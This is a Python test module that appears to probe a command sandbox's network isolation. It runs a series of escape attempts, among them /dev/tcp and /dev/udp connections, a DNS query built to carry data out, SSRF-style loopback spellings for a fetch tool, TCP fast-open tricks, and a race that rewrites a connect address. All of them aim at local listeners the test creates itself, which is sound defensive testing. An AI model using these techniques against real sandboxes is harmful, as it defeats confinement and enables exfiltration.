# SPDX-License-Identifier: Apache-2.0
"""The network: everything that listens around the sandbox."""

import os
import select
import socket
import threading

from attack import attack


def listen(scene, family=socket.AF_INET, address="127.0.0.1"):
    """A service of the person's: its port, and what listens."""
    listener = scene.hold(socket.create_server((address, 0), family=family, backlog=64))
    return listener.getsockname()[1], listener


def receive(scene, address, port=0):
    """The same for datagrams: the port, and what receives."""
    receiver = scene.hold(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    receiver.bind((address, port))
    return receiver.getsockname()[1], receiver


def reached(listener):
    return bool(select.select([listener], [], [], 0)[0])


def connect_multipath(scene, port):
    scene.python(f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('127.0.0.1', {port}))")


# Asks a name server at (a, p) for `secret`: names that are asked for carry data out.
QUESTION = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\\0\\1\\1\\0\\0\\1' + bytes(6) + b'\\6secret\\0\\0\\1\\0\\1', (a, p))\n"


@attack("network", "network namespace")
def loopback_of_the_machine(scene):
    port, listener = listen(scene)
    scene.run(f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3<>/dev/tcp/localhost/{port}; exec 3<>/dev/tcp/127.0.0.2/{port}; exec 3<>/dev/tcp/0.0.0.0/{port}")
    return reached(listener)


@attack("network", "network namespace")
def loopback_of_ipv6(scene):
    port, listener = listen(scene, socket.AF_INET6, "::1")
    scene.python(f"import socket\nfor a in ('::1', '::', '::ffff:127.0.0.1'):\n  try: socket.create_connection((a, {port}), 2)\n  except OSError: pass")
    return reached(listener)


@attack("network", "network namespace")
def datagram_to_the_machine(scene):
    port, receiver = receive(scene, "127.0.0.1")
    scene.run(f"echo secret > /dev/udp/127.0.0.1/{port}")
    return reached(receiver)


@attack("network", "network namespace")
def question_to_a_name_server(scene):
    port, receiver = receive(scene, "127.0.0.53")
    scene.python(f"import socket\na, p = '127.0.0.53', {port}\n{QUESTION}")
    return reached(receiver)


@attack("network", "network namespace, landlock")
def abstract_socket(scene):
    listener = scene.hold(socket.socket(socket.AF_UNIX))
    listener.bind(f"\0sallyport-attack-{os.getpid()}")
    listener.listen()
    scene.python(f"import socket\nsocket.socket(socket.AF_UNIX).connect(chr(0) + 'sallyport-attack-{os.getpid()}')")
    return reached(listener)


@attack("network", "mount namespace, seccomp")
def datagram_to_a_socket_by_its_path(scene):
    """What logs and service managers listen on. Two that are connected to each other send to others all the same."""
    path = os.path.join(scene.directory("outside"), "log")
    receiver = scene.hold(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
    receiver.bind(path)
    os.chmod(path, 0o777)
    scene.python(f"import socket\nfor kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):\n"
                 f"  try: socket.socketpair(socket.AF_UNIX, kind)[0].sendto(b'x', {path!r})\n  except OSError: pass")
    return reached(receiver)


@attack("network", "network namespace, seccomp")
def datagram_to_an_abstract_socket(scene):
    receiver = scene.hold(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
    receiver.bind(f"\0sallyport-attack-log-{os.getpid()}")
    scene.python(f"import socket\nsocket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'x', chr(0) + 'sallyport-attack-log-{os.getpid()}')")
    return reached(receiver)


@attack("network", "network namespace, seccomp")
def server_for_everybody(scene):
    """A port of the machine that a command listens on; the person's programs, and others' machines, may come."""
    port, listener = listen(scene)
    listener.close()
    came, over = [], threading.Event()

    def come():
        while not over.wait(0.01) and not came:
            try:
                socket.create_connection(("127.0.0.1", port), 1).close()
                came.append(port)
            except OSError:
                pass

    visitor = threading.Thread(target=come)
    visitor.start()
    scene.python(f"import socket\ns = socket.create_server(('127.0.0.1', {port}))\ns.settimeout(1)\ns.accept()")
    over.set()
    visitor.join()
    return bool(came)


@attack("network", "seccomp")
def multipath(scene):
    port, listener = listen(scene)
    connect_multipath(scene, port)
    return reached(listener)


@attack("network", "seccomp")
def connecting_by_sending(scene):
    port, listener = listen(scene)
    scene.python(f"import socket\nsocket.socket().sendto(b'x', 0x20000000, ('127.0.0.1', {port}))")
    return reached(listener)


@attack("network", "clean environment")
def proxy_of_the_person(scene):
    port, listener = listen(scene)
    scene.environment.update({"http_proxy": f"http://127.0.0.1:{port}", "ALL_PROXY": f"http://127.0.0.1:{port}"})
    said = scene.run(f"env | grep -i proxy; exec 3<>/dev/tcp/127.0.0.1/{port}")
    return reached(listener) or str(port) + "\n" in said.text.replace(f"/{port}", "")


@attack("network", "broker")
def loopback_by_fetch_url(scene):
    port, listener = listen(scene)
    if scene.stage == "unconfined":
        scene.python(f"import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}', timeout=0.5)")
    else:
        for host in ("127.0.0.1", "localhost", "0.0.0.0", "2130706433", "0x7f.1", "127.1", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]"):
            scene.serve().call("fetch_url", url=f"http://{host}:{port}/")
    return reached(listener)


# ---- beside what the policy lets commands reach: the allowed place is really reached, or nothing would be shown ----

REACH = """
import socket
def reach(address, port, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind) as s:
            s.settimeout(5)
            s.connect((address, port))
            s.send(b'x')
            return True
    except OSError:
        return False
"""
SPELLINGS = ("127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", "198.18.0.1", "198.18.0.2", "198.19.255.254", "localhost")


def allowing(scene, *, denied=()):
    """(the port that policy names, what listens there): a server whose commands reach it."""
    port, listener = listen(scene)
    network = {"allowedDomains": [f"localhost:{port}"], "deniedDomains": list(denied)}
    if scene.stage == "unconfined":
        scene.serve()
    else:
        scene.serve(policy={"network": network})
    return port, listener


def accept(scene, listener):
    """Takes the connection that the attack made on purpose, so that only others are left."""
    if scene.stage == "unconfined" or profile(scene) != "minimal":  # there commands reach nothing
        # the broker connects a little later than the command thinks
        assert select.select([listener], [], [], 20)[0], "not even what the policy names was reached"
    if reached(listener):
        listener.accept()[0].close()


def profile(scene):
    return scene.serve().request("tools/call", {"name": "explain_access", "arguments": {}})["result"]["structuredContent"]["profile"]


@attack("network", "network namespace, broker")
def another_port_of_an_allowed_host(scene):
    port, listener = allowing(scene)
    other, elsewhere = listen(scene)
    scene.python(REACH + f"reach('127.0.0.1', {port})\nfor a in {SPELLINGS}: reach(a, {other})")
    accept(scene, listener)
    return reached(elsewhere)


@attack("network", "broker")
def denied_address_of_an_allowed_name(scene):
    port, listener = allowing(scene, denied=["127.0.0.1", "::1"])
    scene.python(REACH + f"for a in {SPELLINGS}: reach(a, {port})")
    return reached(listener)


@attack("network", "network namespace")
def datagrams_beside_an_allowed_port(scene):
    port, listener = allowing(scene)
    _, receiver = receive(scene, "127.0.0.1", port)
    scene.python(REACH + f"reach('127.0.0.1', {port})\nfor a in {SPELLINGS}: reach(a, {port}, socket.SOCK_DGRAM)")
    accept(scene, listener)
    return reached(receiver)


@attack("network", "broker")
def question_past_the_broker(scene):
    """To a name server of the attacker's, over what the policy allows for something else."""
    port, listener = allowing(scene)
    elsewhere, receiver = receive(scene, "127.0.0.53")
    scene.python(REACH + f"reach('127.0.0.1', {port})\nfor p in (53, {elsewhere}):\n  for a in ('127.0.0.1', '127.0.0.53'):\n"
                 f"    try: {QUESTION}    except OSError: pass")
    accept(scene, listener)
    return reached(receiver)


@attack("network", "seccomp")
def other_protocols_beside_an_allowed_port(scene):
    port, listener = allowing(scene)
    connect_multipath(scene, port)
    return reached(listener)


@attack("network", "descriptors")
def socket_of_the_broker(scene):
    """What listens inside was made inside: whoever finds it, or its number in /proc, accepts for all others of the sandbox."""
    port, listener = allowing(scene)
    held = scene.hold(socket.create_server(("127.0.0.1", 0)))
    os.set_inheritable(held.fileno(), True)
    if scene.stage == "unconfined":
        scene.descriptors = (held.fileno(),)
    said = scene.python(REACH + f"import os\nreach('127.0.0.1', {port})\nfor p in [d for d in os.listdir('/proc') if d.isdigit()]:\n"
                        "  try:\n    for f in os.listdir('/proc/' + p + '/fd'):\n"
                        "      if os.readlink('/proc/' + p + '/fd/' + f).startswith('socket:'): print('held by', p)\n  except OSError: pass")
    accept(scene, listener)
    return "held by" in said


# ---- the connection itself, where it is not the command's own but one that was made for it ----

@attack("network", "network namespace, supervisor")
def connection_that_is_dissolved(scene):
    """AF_UNSPEC takes a connection apart; what was connected to an allowed place then goes elsewhere, by each of its names."""
    port, listener = allowing(scene)
    other, elsewhere = listen(scene)
    scene.python("import ctypes, os, socket, struct\nlibc = ctypes.CDLL(None)\ns = socket.socket(); t = s.dup()\n"
                 f"s.connect(('127.0.0.1', {port}))\ns.send(b'x'); u = s.dup()\n"
                 "def to(fd, family, port): return libc.connect(fd, struct.pack('=H', family) + struct.pack('>H', port) + bytes([127, 0, 0, 1]) + bytes(8), 16)\n"
                 f"for one in (s, t, u):\n  to(one.fileno(), 0, 0)\n  if to(one.fileno(), 2, {other}) == 0:\n    try: one.send(b'x')\n    except OSError: pass")
    accept(scene, listener)
    return reached(elsewhere)


@attack("network", "network namespace, supervisor")
def address_that_changes_while_it_is_read(scene):
    """Somebody who shares its memory rewrites the address while it connects."""
    port, listener = allowing(scene)
    other, elsewhere = listen(scene)
    scene.python(f"""import ctypes, mmap, os, signal, socket, struct
libc, shared = ctypes.CDLL(None), mmap.mmap(-1, 64)
address = ctypes.addressof(ctypes.c_char.from_buffer(shared))
shared[:16] = struct.pack('=H', 2) + struct.pack('>H', {port}) + bytes([127, 0, 0, 1]) + bytes(8)
writer = os.fork()
while writer == 0:
    for turn in range(256):
        shared[2:4] = struct.pack('>H', {port} if turn & 1 else {other})
        shared[32] = turn
for n in range(50):
    before = shared[32]
    while shared[32] == before: os.sched_yield()
    s = socket.socket(); s.setblocking(False)
    libc.connect(s.fileno(), ctypes.c_void_p(address), 16)
os.kill(writer, signal.SIGKILL)""")
    accept(scene, listener)
    return reached(elsewhere)


@attack("network", "network namespace, supervisor")
def datagrams_with_an_address_of_their_own(scene):
    """Over a socket that was connected to a name server, wherever that is: each message may say where it goes."""
    port, listener = allowing(scene)
    other, receiver = receive(scene, "127.0.0.1")
    scene.python(REACH + f"""reach('127.0.0.1', {port})
for family, address in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::ffff:127.0.0.1')):
  for connected in (False, True):
    try:
      s = socket.socket(family, socket.SOCK_DGRAM)
      if connected: s.connect((address, 53))
    except OSError: continue
    for send in (lambda: s.sendto(b'x', (address, {other})), lambda: s.sendmsg([b'x'], [], 0, (address, {other})),
                 lambda: (s.bind(('0.0.0.0' if family == socket.AF_INET else '::', 0)), s.sendto(b'x', (address, {other})))):
      try: send()
      except OSError: pass""")
    accept(scene, listener)
    return reached(receiver)


@attack("network", "network namespace, supervisor")
def fast_open_beside_an_allowed_port(scene):
    """Connecting by sending, by each call and by the option that makes connect() wait for it."""
    port, listener = allowing(scene)
    other, elsewhere = listen(scene)
    scene.python(REACH + f"""reach('127.0.0.1', {port})
for fast in (lambda s: s.sendto(b'x', 0x20000000, ('127.0.0.1', {other})), lambda s: s.sendmsg([b'x'], [], 0x20000000, ('127.0.0.1', {other})),
             lambda s: (s.setsockopt(6, 30, 1), s.connect(('127.0.0.1', {other})), s.send(b'x'))):
  for before in (False, True):
    s = socket.socket()
    try:
      if before: s.connect(('127.0.0.1', {port}))
    except OSError: pass
    try: fast(s)
    except OSError: pass""")
    accept(scene, listener)
    return reached(elsewhere)


@attack("network", "supervisor")
def services_by_their_path_beside_an_allowed_port(scene):
    """A socket of the person's in the file system: an agent of keys, the daemon of containers."""
    port, listener = allowing(scene)
    path = os.path.join(scene.directory("outside"), "agent")
    agent = scene.hold(socket.socket(socket.AF_UNIX))
    agent.bind(path)
    agent.listen()
    os.chmod(path, 0o777)
    scene.python(REACH + f"""import ctypes, struct
reach('127.0.0.1', {port})
libc = ctypes.CDLL(None)
name = struct.pack('=H', 1) + {path!r}.encode() + bytes(1)
for make in (lambda: socket.socket(socket.AF_UNIX), lambda: socket.socket(), lambda: socket.socket(type=socket.SOCK_DGRAM), lambda: socket.socketpair()[0]):
  try: s = make()
  except OSError: continue
  if libc.connect(s.fileno(), name, len(name)) == 0: s.send(b'x')""")
    accept(scene, listener)
    return reached(agent)
